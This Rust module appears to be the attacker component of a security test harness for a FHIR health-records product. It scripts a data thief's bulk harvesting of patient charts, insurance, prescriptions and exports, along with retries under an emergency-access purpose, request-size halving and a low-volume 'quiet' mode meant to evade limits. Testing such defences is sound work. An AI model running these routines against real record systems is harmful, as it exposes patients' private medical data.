//! The standard functions of the product, as a thief uses them: lists, reads, histories, includes, bundles, pages, export, counts.
//!
//! Each way goes on until it is refused; none of them knows of the budget. State: none.

use super::attacker::Attacker;
use crate::failure::Failure;
use serde_json::{Value, json};

/// After so many refusals in a row, the thief tries another way.
const PATIENCE: usize = 12;
/// The most pages of one list that are asked for.
const MAX_PAGES: usize = 500;
/// How many reads one bundle asks for.
const BATCH: usize = 40;

/// What the thief still wants: ids of patients, which it knows from elsewhere (letters, an appointment book); a stronger thief than one who
/// must look for them.
pub(super) struct Targets {
    pub ids: Vec<String>,
    /// Whose chart is tried next.
    pub next: usize,
}

impl Targets {
    /// The next ones, in a circle.
    pub(super) fn some(&mut self, count: usize) -> Vec<String> {
        let some = (0..count.min(self.ids.len())).map(|step| (self.next + step) % self.ids.len());
        let some: Vec<String> = some.filter_map(|at| self.ids.get(at).cloned()).collect();
        self.next = (self.next + some.len()) % self.ids.len().max(1);
        some
    }

    /// So many of them were not given.
    fn back(&mut self, count: usize) {
        let all = self.ids.len().max(1);
        self.next = (self.next + all - count % all) % all;
    }
}

/// Whether the session has ended.
fn is_over(status: u16) -> bool {
    status == 401
}

/// Everything at full speed, until nothing is given any more. Answers whether the session still lives.
pub(super) async fn all(attacker: &mut Attacker<'_>, targets: &mut Targets) -> Result<bool, Failure> {
    let lives = lists(attacker, "/Patient?_elements=name,birthDate&_count=100").await?
        && lines(attacker, targets).await?
        && charts(attacker, targets).await?
        && lists(attacker, "/Patient?_count=50&_revinclude=Coverage:beneficiary").await?
        && lists(attacker, "/MedicationRequest?_count=50&_include=MedicationRequest:subject").await?
        && lists(attacker, "/Encounter?_count=50&_include=Encounter:patient&_include=Encounter:participant")
            .await?
        && bundles(attacker, targets).await?
        && pages(attacker, targets).await?
        && exports(attacker).await?
        && counts(attacker).await?;
    Ok(lives)
}

/// A list, from page to page.
async fn lists(attacker: &mut Attacker<'_>, first: &str) -> Result<bool, Failure> {
    let mut path = first.to_owned();
    for _ in 0..MAX_PAGES {
        let (status, page) = attacker.fhir(&path).await?;
        if is_over(status) {
            return Ok(false);
        }
        let next = page["link"].as_array().into_iter().flatten().find(|link| link["relation"] == "next");
        let next = next.and_then(|link| link["url"].as_str()?.split_once("/fhir"));
        match next.filter(|_| status == 200) {
            Some((_, rest)) => path = rest.to_owned(),
            None => break,
        }
    }
    Ok(true)
}

/// Lines of as many as are given at once; where that is refused, of half as many.
async fn lines(attacker: &mut Attacker<'_>, targets: &mut Targets) -> Result<bool, Failure> {
    let mut count = 50;
    while count > 0 {
        let ids = targets.some(count);
        let path = format!("/Patient?_id={}&_elements=name,birthDate&_count={count}", ids.join(","));
        match attacker.fhir(&path).await?.0 {
            200 => {}
            status if is_over(status) => return Ok(false),
            _ => {
                targets.back(ids.len());
                count /= 2;
            }
        }
    }
    Ok(true)
}

/// Chart after chart: the patient, former versions, insurance, prescriptions, contacts, everything.
pub(super) async fn charts(attacker: &mut Attacker<'_>, targets: &mut Targets) -> Result<bool, Failure> {
    let mut refused = 0;
    for _ in 0..targets.ids.len() {
        let Some(id) = targets.some(1).pop() else { break };
        let path = format!("/Patient/{id}");
        let mut status = attacker.fhir(&path).await?.0;
        if !is_over(status) && status != 200 {
            status = attacker.fhir_for("ETREAT", &path).await?.0;
        }
        if is_over(status) {
            return Ok(false);
        }
        if status != 200 {
            refused += 1;
            if refused >= PATIENCE {
                break;
            }
            continue;
        }
        refused = 0;
        for path in [
            format!("/Patient/{id}/_history"),
            format!("/Coverage?beneficiary=Patient/{id}"),
            format!("/MedicationRequest?subject=Patient/{id}"),
            format!("/Encounter?patient=Patient/{id}&_include=Encounter:participant"),
            format!("/Condition?patient=Patient/{id}"),
        ] {
            if is_over(attacker.fhir(&path).await?.0) {
                return Ok(false);
            }
        }
        if is_over(attacker.fhir_later(&format!("/Patient/{id}/$everything")).await?) {
            return Ok(false);
        }
    }
    Ok(true)
}

/// Many reads in one request.
async fn bundles(attacker: &mut Attacker<'_>, targets: &mut Targets) -> Result<bool, Failure> {
    for _ in 0..PATIENCE {
        let before = attacker.loot.patients();
        let ids = targets.some(BATCH);
        let reads =
            ids.iter().map(|id| json!({"request": {"method": "GET", "url": format!("Patient/{id}")}}));
        let bundle =
            json!({"resourceType": "Bundle", "type": "batch", "entry": reads.collect::<Vec<Value>>()});
        if is_over(attacker.bundle(&bundle).await?.0) {
            return Ok(false);
        }
        let search = format!("/Patient?_id={}", ids.join(","));
        if is_over(attacker.fhir(&search).await?.0) {
            return Ok(false);
        }
        if attacker.loot.patients() == before {
            break;
        }
    }
    Ok(true)
}

/// The pages of the product, also as they are printed.
async fn pages(attacker: &mut Attacker<'_>, targets: &mut Targets) -> Result<bool, Failure> {
    let mut refused = 0;
    while refused < PATIENCE {
        let Some(id) = targets.some(1).pop() else { break };
        for part in ["", "/timeline", "/medication", "/insurance", "/documents"] {
            let (status, page) = attacker.page(&format!("/patient/{id}{part}")).await?;
            if is_over(status) || status == 303 {
                return Ok(status == 303 && attacker.fhir("/metadata").await?.0 != 401);
            }
            // Each page of a chart links to the others; one that says why not has none of them.
            let shows = status == 200 && page.contains(&format!("/patient/{id}/medication"));
            if shows {
                let since_ms = attacker.since_ms();
                attacker.loot.take_chart(&id, since_ms);
            }
            refused = if shows { 0 } else { refused + 1 };
        }
    }
    Ok(true)
}

/// Whatever may exist to take all at once.
async fn exports(attacker: &mut Attacker<'_>) -> Result<bool, Failure> {
    for path in ["/$export", "/Patient/$export", "/_history?_count=500", "/Patient/_history?_count=500"] {
        if is_over(attacker.fhir(path).await?.0) {
            return Ok(false);
        }
    }
    Ok(true)
}

/// Counting tells of people, too: who was born when, who has died.
async fn counts(attacker: &mut Attacker<'_>) -> Result<bool, Failure> {
    for year in (1930..2020).step_by(10) {
        let (status, _) =
            attacker.fhir(&format!("/Patient?birthdate={year}&deceased=true&_summary=count")).await?;
        if is_over(status) {
            return Ok(false);
        }
        if status != 200 {
            break;
        }
    }
    Ok(true)
}

/// As many charts and as many lines as that, and no more.
pub(super) async fn quietly(
    attacker: &mut Attacker<'_>,
    targets: &mut Targets,
    charts: u32,
    lines: u32,
) -> Result<(), Failure> {
    for id in targets.some(charts as usize) {
        attacker.fhir(&format!("/Patient/{id}")).await?;
        attacker.fhir(&format!("/MedicationRequest?subject=Patient/{id}")).await?;
    }
    let ids = targets.some(lines as usize);
    for some in ids.chunks(50) {
        let path = format!("/Patient?_id={}&_elements=name,birthDate&_count=50", some.join(","));
        attacker.fhir(&path).await?;
    }
    Ok(())
}
